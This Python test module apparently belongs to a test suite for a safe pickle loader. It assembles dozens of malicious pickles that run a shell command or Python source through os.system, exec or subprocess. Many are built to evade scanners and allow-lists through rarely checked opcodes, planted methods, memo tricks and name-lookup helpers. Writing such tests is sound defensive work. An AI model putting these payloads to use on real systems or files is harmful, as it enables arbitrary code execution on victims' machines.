"""Attacks that call something: by each opcode that can, and by callables that block-lists forget."""

from __future__ import annotations

from attacks.assembler import (
    APPEND,
    APPENDS,
    BINGET,
    BINPERSID,
    BINPUT,
    DUP,
    EMPTY_TUPLE,
    GET,
    GLOBAL,
    INST,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    PUT,
    REDUCE,
    STOP,
    STRING,
    TUPLE,
    Code,
    build,
    call,
    memoized,
    name,
    new,
    pickled,
    text,
    tuple_of,
    value,
)
from attacks.canary import PYTHON, SHELL
from attacks.case import ERROR, MALFORMED, RAN, REFUSED, Theme

theme = Theme("calls")

PLAIN = "attacks.victims.Plain"
RUNNER = "attacks.victims.Runner"


# --- each opcode --------------------------------------------------------------------------------------------------


@theme.case("REDUCE of a function")
def reduce_os_system() -> bytes:
    """Runs a shell command: what every tutorial shows."""
    return pickled(call("os.system", SHELL))


@theme.case("REDUCE of a function")
def reduce_in_protocol_0() -> bytes:
    """Runs a shell command, written in text opcodes only."""
    return bytes(GLOBAL("os", "system") + MARK + STRING(f"'{SHELL}'") + TUPLE + REDUCE + STOP)


@theme.case("REDUCE of a function")
def reduce_exec() -> bytes:
    """Executes Python source."""
    return pickled(call("builtins.exec", PYTHON))


@theme.case("REDUCE deep inside honest data")
def reduce_in_nested_data() -> bytes:
    """Runs a shell command in the last field of a large, honest-looking structure."""
    rows = [{"id": i, "name": f"row {i}", "scores": [i * 0.5, i]} for i in range(200)]
    return pickled(value({"rows": rows, "version": 3, "owner": call("os.system", SHELL)}))


@theme.case("REDUCE whose result is thrown away")
def reduce_then_pop() -> bytes:
    """Runs a shell command and drops the result: the object that comes out is an innocent list."""
    return pickled(call("os.system", SHELL) + POP + value([1, 2, 3]))


@theme.case("REDUCE of a class that acts in __init__")
def reduce_popen() -> bytes:
    """Starts a process: the constructor is the harm."""
    return pickled(call("subprocess.Popen", ("sh", "-c", SHELL)))


@theme.case("INST")
def inst_os_system() -> bytes:
    """Runs a shell command by the call opcode of protocol 0, which scanners overlook."""
    return pickled(MARK + text(SHELL) + INST("os", "system"), proto=0)


@theme.case("OBJ")
def obj_os_system() -> bytes:
    """Runs a shell command by the call opcode of protocol 1, which scanners overlook."""
    return pickled(MARK + GLOBAL("os", "system") + text(SHELL) + OBJ, proto=1)


@theme.case("OBJ", allow=(RUNNER,))
def obj_of_looked_up_method() -> bytes:
    """Calls, by OBJ, a method that `getattr` took out of an allowed class."""
    return pickled(MARK + call("builtins.getattr", name(RUNNER), "script") + text("x") + OBJ)


@theme.case("NEWOBJ of an iterator over a function")
def newobj_map() -> bytes:
    """Makes a `map` of `exec` and lets `bytes.__new__` consume it: no REDUCE anywhere."""
    return pickled(new("builtins.bytes", new("builtins.map", name("builtins.exec"), [PYTHON])))


@theme.case("NEWOBJ of an iterator over a function")
def newobj_filter_into_tuple() -> bytes:
    """Makes a `filter` of `os.system` and lets `tuple.__new__` consume it."""
    return pickled(new("builtins.tuple", new("builtins.filter", name("os.system"), [SHELL])))


@theme.case("NEWOBJ_EX")
def newobj_ex_map() -> bytes:
    """Consumes a `map` of `exec` by NEWOBJ_EX with no keywords."""
    inner = name("builtins.map") + tuple_of(name("builtins.exec"), [PYTHON]) + value({}) + NEWOBJ_EX
    return pickled(name("builtins.frozenset") + tuple_of(inner) + value({}) + NEWOBJ_EX)


@theme.case("NEWOBJ_EX", verdict=REFUSED, plain=ERROR)
def newobj_ex_keywords_of_metaclass() -> bytes:
    """Hands keywords to `type.__new__`, to make a class of the attacker's design."""
    namespace = {"__reduce__": name("builtins.exec")}
    return pickled(name("builtins.type") + tuple_of("Made", (), namespace) + value({"x": 1}) + NEWOBJ_EX)


@theme.case("NEWOBJ of a class made on the spot")
def newobj_of_type() -> bytes:
    """Makes a class whose `__setstate__` is `exec`, an object of it, and gives it source as state."""
    made = new("builtins.type", "Made", (), {"__setstate__": name("builtins.exec")})
    return pickled(build(made + EMPTY_TUPLE + NEWOBJ, PYTHON))


@theme.case("NEWOBJ of a function", verdict=(REFUSED, MALFORMED), plain=ERROR)
def newobj_of_function() -> bytes:
    """Gives NEWOBJ a function where a class must be."""
    return pickled(new("os.system", SHELL))


@theme.case("three-argument type()")
def reduce_type() -> bytes:
    """Makes a class by REDUCE whose `__reduce_ex__` and `__setstate__` are the attacker's."""
    made = call("builtins.type", "Made", (), {"__setstate__": name("os.system")})
    return pickled(build(made + EMPTY_TUPLE + NEWOBJ, SHELL))


@theme.case("BUILD calls a planted __setstate__", allow=(PLAIN,))
def build_planted_setstate() -> bytes:
    """Sets an instance attribute `__setstate__` by a first BUILD; the second BUILD calls it."""
    return pickled(build(build(new(PLAIN), {"__setstate__": name("os.system")}), SHELL))


@theme.case("BUILD calls a planted __setstate__", allow=(PLAIN,))
def build_planted_setstate_by_slots() -> bytes:
    """The same through slot state, which BUILD sets by `setattr`."""
    return pickled(build(build(new(PLAIN), (None, {"__setstate__": name("os.system")})), SHELL))


@theme.case("BUILD calls a planted __setstate__")
def build_planted_setstate_on_function() -> bytes:
    """A function carries the planted `__setstate__`; no object of a class is needed."""
    return pickled(build(build(name("textwrap.dedent"), {"__setstate__": name("os.system")}), SHELL))


@theme.case("BUILD calls a planted __setstate__")
def build_planted_setstate_on_exception() -> bytes:
    """An exception carries it: exceptions take any attribute as state."""
    carrier = build(call("builtins.ValueError", "x"), {"__setstate__": name("builtins.exec")})
    return pickled(build(carrier, PYTHON))


@theme.case("BUILD calls a planted __setstate__")
def build_planted_setstate_on_namespace() -> bytes:
    """A SimpleNamespace carries it, a type that honest pickles hold."""
    carrier = build(call("types.SimpleNamespace"), {"__setstate__": name("builtins.exec")})
    return pickled(build(carrier, PYTHON))


@theme.case("BUILD calls a planted __setstate__", needs=("sklearn",))
def build_planted_setstate_on_estimator() -> bytes:
    """A scikit-learn estimator takes the planted method with its state, which `__setstate__` copies into its dict."""
    carrier = build(new("sklearn.dummy.DummyClassifier"), {"__setstate__": name("builtins.exec")})
    return pickled(build(carrier, PYTHON))


@theme.case("APPEND calls a planted append", allow=(PLAIN,))
def append_planted() -> bytes:
    """Sets an instance attribute `append`; the opcode APPEND calls it."""
    return pickled(build(new(PLAIN), {"append": name("os.system")}) + text(SHELL) + APPEND)


@theme.case("APPENDS calls a planted extend", allow=(PLAIN,))
def appends_planted_extend() -> bytes:
    """Sets an instance attribute `extend`; the opcode APPENDS calls it with the list of items."""
    carrier = build(new(PLAIN), {"extend": name("subprocess.call")})
    return pickled(carrier + MARK + value("sh") + value("-c") + value(SHELL) + APPENDS)


@theme.case("ADDITEMS calls a planted add", allow=(PLAIN,))
def additems_planted_add() -> bytes:
    """Sets an instance attribute `add`; the opcode ADDITEMS calls it with each item."""
    return pickled(build(new(PLAIN), {"add": name("os.system")}) + MARK + value(SHELL) + Code(b"\x90"))


@theme.case("container opcode on an object with such a method")
def append_to_codec_stream() -> bytes:
    """APPEND calls the `append` method of whatever lies there, such as a mailbox or an argument parser."""
    return pickled(call(RUNNER, 1) + value(1) + APPEND)


@theme.case("container opcode on an allowed class", allow=("attacks.victims.Feed",), verdict=(REFUSED, "BuildError"))
def append_to_feed() -> bytes:
    """Calls the `append` of an allowed class that is no list: the user allowed a class, not its methods."""
    return pickled(new("attacks.victims.Feed") + value("x") + APPEND)


@theme.case("container opcode on an allowed class", allow=("attacks.victims.Feed",), verdict=(REFUSED, "BuildError"))
def setitem_on_feed() -> bytes:
    """Calls the `__setitem__` of an allowed class that is no dict."""
    return pickled(new("attacks.victims.Feed") + value("k") + value("v") + Code(b"s"))


@theme.case("container opcode on an allowed class", allow=("attacks.victims.Feed",), verdict=(REFUSED, "BuildError"))
def additems_on_feed() -> bytes:
    """Calls the `add` of an allowed class that is no set."""
    return pickled(new("attacks.victims.Feed") + MARK + value("x") + Code(b"\x90"))


# --- where the callable comes from --------------------------------------------------------------------------------


@theme.case("callable fetched from the memo")
def callable_from_memo() -> bytes:
    """Stores `os.system` in the memo, covers it with data, and calls what it gets back."""
    return pickled(
        memoized(name("os.system"), 300) + POP + value([1]) + POP + Code(b"j") + (300).to_bytes(4, "little"),
        tuple_of(SHELL) + REDUCE,
    )


@theme.case("callable fetched from the memo")
def callable_from_overwritten_memo() -> bytes:
    """Stores an innocent class in memo 0, then `os.system` over it: a reader that keeps the first is wrong."""
    return pickled(
        name("collections.OrderedDict") + BINPUT(0) + POP + name("os.system") + BINPUT(0) + POP,
        BINGET(0) + tuple_of(SHELL) + REDUCE,
    )


@theme.case("callable fetched from the memo", verdict=(REFUSED, MALFORMED))
def callable_from_memo_by_text_index() -> bytes:
    """Writes the memo index as ` 0_7 `, which Python reads as 7 and a careful parser as something else."""
    return pickled(
        name("collections.OrderedDict") + PUT("07") + POP + name("os.system") + PUT(" 0_7 ") + POP,
        GET("7") + tuple_of(SHELL) + REDUCE,
        proto=0,
    )


@theme.case("callable copied by DUP", verdict=(REFUSED, MALFORMED))
def callable_by_dup() -> bytes:
    """Copies `os.system` with DUP and calls the copy; the original is dropped with the data above it."""
    return pickled(name("os.system") + DUP + value((SHELL,)) + REDUCE)


@theme.case("callable that another call returned")
def callable_from_getattr() -> bytes:
    """Gets `system` out of the module `os` with `getattr` and calls the result."""
    module = call("importlib.import_module", "os")
    return pickled(call(call("builtins.getattr", module, "system"), SHELL))


@theme.case("callable that another call returned")
def callable_from_attrgetter() -> bytes:
    """Calls what `operator.attrgetter` finds."""
    getter = call("operator.attrgetter", "system")
    return pickled(call(call(getter, call("builtins.__import__", "os")), SHELL))


@theme.case("callable that another call returned")
def callable_from_resolve_name() -> bytes:
    """`pkgutil.resolve_name` turns any text into any function."""
    return pickled(call(call("pkgutil.resolve_name", "os:system"), SHELL))


@theme.case("callable that another call returned")
def callable_from_pydoc_locate() -> bytes:
    """`pydoc.locate` turns any text into any function."""
    return pickled(call(call("pydoc.locate", "os.system"), SHELL))


@theme.case("callable from inside a container", plain=ERROR, verdict=(REFUSED, MALFORMED))
def callable_is_a_list() -> bytes:
    """Calls a list that holds a function."""
    return pickled(value([name("os.system")]) + tuple_of(SHELL) + REDUCE)


@theme.case("callable from a persistent id", plain=ERROR, verdict=(REFUSED, MALFORMED))
def callable_from_persistent_id() -> bytes:
    """Calls what the application's `persistent_load` returns for the id `os.system`."""
    return pickled(value("os.system") + BINPERSID + tuple_of(SHELL) + REDUCE)


@theme.case("callable is plain data", plain=ERROR, verdict=(REFUSED, MALFORMED))
def callable_is_text() -> bytes:
    """Calls a str."""
    return pickled(value("os.system") + tuple_of(SHELL) + REDUCE)


@theme.case("REDUCE with arguments that are no tuple", plain=ERROR, verdict=(REFUSED, MALFORMED))
def arguments_are_a_list() -> bytes:
    """Calls with a list in place of the tuple of arguments."""
    return pickled(name("os.system") + value([SHELL]) + REDUCE)


@theme.case("REDUCE with arguments that are no tuple", verdict=(REFUSED, MALFORMED), plain=RAN)
def arguments_are_made_by_a_call() -> bytes:
    """The tuple of arguments is itself the result of a call, so a reader of the opcodes does not see it."""
    arguments = call("builtins.tuple", [SHELL])
    return pickled(name("os.system") + arguments + REDUCE)


@theme.case("decoy globals around the call")
def decoy_globals() -> bytes:
    """Mentions hundreds of harmless globals, to outvote a scorer, and runs one command."""
    decoys = [name("collections.OrderedDict"), name("datetime.date"), name("decimal.Decimal")] * 100
    return pickled(value(decoys) + POP + call("os.system", SHELL))


@theme.case("run first, break the stream after", verdict=(REFUSED, MALFORMED))
def run_then_break() -> bytes:
    """Runs a command and then makes the loader fail: callers that fall back on errors never see a verdict."""
    return pickled(call("os.system", SHELL) + POP + Code(b"\xff\xff\xff"))


@theme.case("run first, break the stream after", verdict=(REFUSED, "TruncatedError"))
def run_then_truncate() -> bytes:
    """Runs a command and ends without STOP."""
    return pickled(call("os.system", SHELL) + POP)[:-1]


# --- allowed by hand, called by another way -----------------------------------------------------------------------


@theme.case("method of an allowed class", allow=(RUNNER,))
def static_method_of_allowed() -> bytes:
    """Calls a static method of an allowed class through `getattr`: allowed is the class, not what it can do."""
    return pickled(call(call("builtins.getattr", name(RUNNER), "script"), "x"))


@theme.case("method of an allowed class", allow=(RUNNER,))
def class_method_of_allowed() -> bytes:
    """Calls a class method of an allowed class through a dotted name."""
    return pickled(value("attacks.victims") + value("Runner.from_text") + Code(b"\x93") + tuple_of("x") + REDUCE)


@theme.case("method of an allowed class", allow=(RUNNER,))
def bound_method_of_allowed() -> bytes:
    """Makes an object of an allowed class without `__init__` and calls a bound method of it."""
    return pickled(call(call("builtins.getattr", new(RUNNER), "launch")))


@theme.case("user's class as a callback", allow=(RUNNER,))
def allowed_class_as_default_factory() -> bytes:
    """Puts an allowed class where a library calls it, and has the library call it: `map` over it."""
    return pickled(new("builtins.tuple", new("builtins.map", name(RUNNER), [1])))
